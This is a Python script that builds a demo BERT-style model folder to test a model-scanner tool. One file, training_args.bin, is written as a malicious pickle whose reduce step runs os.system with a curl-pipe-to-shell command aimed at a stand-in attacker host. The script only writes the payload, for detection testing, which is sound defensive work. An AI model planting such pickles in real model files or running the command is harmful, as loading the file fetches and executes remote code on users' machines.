#!/usr/bin/python3
"""Build examples/demo-model/, the small Hugging-Face-style model folder that
the README's quick start scans.

    /usr/bin/python3 examples/gen_demo_model.py [OUTDIR]

The folder looks like an ordinary BERT-ish checkpoint, but training_args.bin
is a malicious pickle whose REDUCE runs `os.system` (recorded as
`posix.system`) with a curl-pipe-to-shell command. Nothing here is ever
unpickled: the payload is only *written*, never loaded.

Expected scan (model-scanner --model-path examples/demo-model):
  Critical  Arbitrary Code Execution  training_args.bin  (posix.system)
  Critical  Insecure Pickle Loading   pytorch_model.bin, training_args.bin
  Informational Unverified Source     Model Repository
and nothing else: the README mentions os.system in prose, which must not be
flagged.

The output is byte-for-byte deterministic (fixed seeds, no timestamps, and the
memory addresses that torch's legacy serializer uses as storage keys are
replaced by stable names). Requires torch (any 1.x/2.x with the legacy
serializer) and Python 3.

The helpers (legacy_torch_save, reduce_pickle, ...) are reused by
tests/golden/gen_golden.py.
"""
import io
import json
import os
import pickle
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.join(HERE, "demo-model")

PAYLOAD_CMD = "curl -s https://attacker.example/payload.sh | sh"


# ---------------------------------------------------------------------------
# Deterministic legacy torch.save
# ---------------------------------------------------------------------------

class _KeyRemapper:
    """A stand-in for the `pickle` module handed to torch.save.

    torch's legacy serializer names every storage by `str(storage._cdata)`, a
    memory address, and writes the storages' raw bytes in the sorted order of
    those names. This wrapper renames the storages "0", "1", ... in order of
    first appearance in the data pickle, and records where the key-list pickle
    starts so the raw storage section can be reordered to match afterwards.
    """

    HIGHEST_PROTOCOL = pickle.HIGHEST_PROTOCOL
    __name__ = "pickle"  # torch checks pickle_module.__name__ (for dill)

    def __init__(self):
        self.mapping = {}
        self.keylist_start = None
        self.keylist_end = None
        self.original_keys = None
        outer = self

        class Pickler(pickle.Pickler):
            # torch assigns `pickler.persistent_id = fn` on the instance
            def __setattr__(self, name, value):
                if name == "persistent_id" and callable(value):
                    inner = value

                    def remapped(obj):
                        pid = inner(obj)
                        if isinstance(pid, tuple) and pid and pid[0] == "storage":
                            pid = list(pid)
                            pid[2] = outer._name(pid[2])
                            if pid[5] is not None:
                                view = list(pid[5])
                                view[0] = outer._name(view[0])
                                pid[5] = tuple(view)
                            pid = tuple(pid)
                        return pid

                    value = remapped
                super().__setattr__(name, value)

        self.Pickler = Pickler
        self.Unpickler = pickle.Unpickler

    def _name(self, key):
        if key not in self.mapping:
            self.mapping[key] = str(len(self.mapping))
        return self.mapping[key]

    def dump(self, obj, f, protocol=None):
        is_keylist = (
            isinstance(obj, list)
            and self.mapping
            and obj
            and all(isinstance(k, str) and k in self.mapping for k in obj)
        )
        if is_keylist:
            self.keylist_start = f.tell()
            self.original_keys = list(obj)
        pickle.dump(obj, f, protocol=protocol)
        if is_keylist:
            self.keylist_end = f.tell()

    def dumps(self, obj, protocol=None):
        return pickle.dumps(obj, protocol=protocol)

    def load(self, f):  # pragma: no cover - never used for saving
        raise RuntimeError("not for loading")

    loads = load


def legacy_torch_save(obj):
    """Return the bytes of torch.save(obj, f, _use_new_zipfile_serialization=False),
    made deterministic (storage keys "0", "1", ... in first-use order)."""
    import torch

    remap = _KeyRemapper()
    buf = io.BytesIO()
    torch.save(obj, buf, pickle_module=remap, pickle_protocol=2,
               _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    if remap.keylist_start is None:
        return data  # no storages at all
    head = data[:remap.keylist_start]
    raw = data[remap.keylist_end:]

    # element size of each storage, to split the raw section into records
    sizes = {}

    def collect(o):
        if isinstance(o, torch.Tensor):
            st = o.storage()
            sizes[str(st._cdata)] = st.element_size()
        elif isinstance(o, dict):
            for v in o.values():
                collect(v)
        elif isinstance(o, (list, tuple)):
            for v in o:
                collect(v)

    collect(obj)
    records = {}
    off = 0
    for key in remap.original_keys:  # the order torch wrote them in
        (numel,) = struct.unpack_from("<q", raw, off)
        n = 8 + numel * sizes[key]
        records[remap.mapping[key]] = raw[off:off + n]
        off += n
    assert off == len(raw), "unexpected bytes after the storages"
    new_keys = sorted(records)
    out = io.BytesIO()
    out.write(head)
    pickle.dump(new_keys, out, protocol=2)
    for k in new_keys:
        out.write(records[k])
    return out.getvalue()


def tiny_model(seed=0):
    import torch
    from torch import nn

    torch.manual_seed(seed)
    return nn.Sequential(nn.Linear(8, 4), nn.ReLU(), nn.Linear(4, 2))


# ---------------------------------------------------------------------------
# Hand-crafted malicious pickles (written, never loaded)
# ---------------------------------------------------------------------------

class _Reduce:
    """An object that pickles as `func(*args)`."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def reduce_pickle(func, args, protocol=2):
    return pickle.dumps(_Reduce(func, args), protocol=protocol)


def malicious_training_args():
    # os.system is pickled as GLOBAL 'posix system' on Linux
    data = reduce_pickle(os.system, (PAYLOAD_CMD,), protocol=2)
    assert b"posix\nsystem\n" in data, data
    return data


# ---------------------------------------------------------------------------
# The repository files
# ---------------------------------------------------------------------------

def dump_json(obj):
    return (json.dumps(obj, indent=2) + "\n").encode()


def config_json():
    return dump_json({
        "_name_or_path": "demo-org/tiny-bert-demo",
        "architectures": ["BertForSequenceClassification"],
        "attention_probs_dropout_prob": 0.1,
        "classifier_dropout": None,
        "hidden_act": "gelu",
        "hidden_dropout_prob": 0.1,
        "hidden_size": 8,
        "id2label": {"0": "NEGATIVE", "1": "POSITIVE"},
        "initializer_range": 0.02,
        "intermediate_size": 16,
        "label2id": {"NEGATIVE": 0, "POSITIVE": 1},
        "layer_norm_eps": 1e-12,
        "max_position_embeddings": 64,
        "model_type": "bert",
        "num_attention_heads": 2,
        "num_hidden_layers": 1,
        "pad_token_id": 0,
        "position_embedding_type": "absolute",
        "problem_type": "single_label_classification",
        "torch_dtype": "float32",
        "transformers_version": "4.30.0",
        "type_vocab_size": 2,
        "use_cache": True,
        "vocab_size": 128,
    })


README = """\
---
license: apache-2.0
language:
- en
library_name: transformers
pipeline_tag: text-classification
tags:
- bert
- text-classification
- sentiment
- demo
---

# tiny-bert-demo

A deliberately tiny BERT-style sentiment classifier (two labels, `NEGATIVE`
and `POSITIVE`) used to demonstrate model-scanner. Its weights are random and
it is not useful for anything else.

## Usage

```python
from transformers import AutoTokenizer, AutoModelForSequenceClassification

tokenizer = AutoTokenizer.from_pretrained("demo-org/tiny-bert-demo")
model = AutoModelForSequenceClassification.from_pretrained("demo-org/tiny-bert-demo")
```

## Training

The model was trained for one epoch on a toy dataset. Our training script
never calls os.system or spawns a shell; all preprocessing happens in pure
Python.

## Limitations

Do not use this model for real decisions.
"""


def tokenizer_config_json():
    return dump_json({
        "clean_up_tokenization_spaces": True,
        "cls_token": "[CLS]",
        "do_lower_case": True,
        "mask_token": "[MASK]",
        "model_max_length": 64,
        "pad_token": "[PAD]",
        "sep_token": "[SEP]",
        "strip_accents": None,
        "tokenize_chinese_chars": True,
        "tokenizer_class": "BertTokenizer",
        "unk_token": "[UNK]",
    })


def special_tokens_map_json():
    return dump_json({
        "cls_token": "[CLS]",
        "mask_token": "[MASK]",
        "pad_token": "[PAD]",
        "sep_token": "[SEP]",
        "unk_token": "[UNK]",
    })


def demo_files():
    """name -> bytes for every file of the demo repository."""
    return {
        "README.md": README.encode(),
        "config.json": config_json(),
        "pytorch_model.bin": legacy_torch_save(tiny_model(seed=0).state_dict()),
        "special_tokens_map.json": special_tokens_map_json(),
        "tokenizer_config.json": tokenizer_config_json(),
        "training_args.bin": malicious_training_args(),
    }


def write_files(outdir, files):
    for name, data in sorted(files.items()):
        path = os.path.join(outdir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        assert len(data) < 50 * 1024, (name, len(data))


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else DEFAULT_OUT
    os.makedirs(outdir, exist_ok=True)
    files = demo_files()
    assert len(files["pytorch_model.bin"]) < 5 * 1024
    write_files(outdir, files)
    for name in sorted(files):
        print(f"{len(files[name]):6d}  {os.path.join(outdir, name)}")


if __name__ == "__main__":
    main()
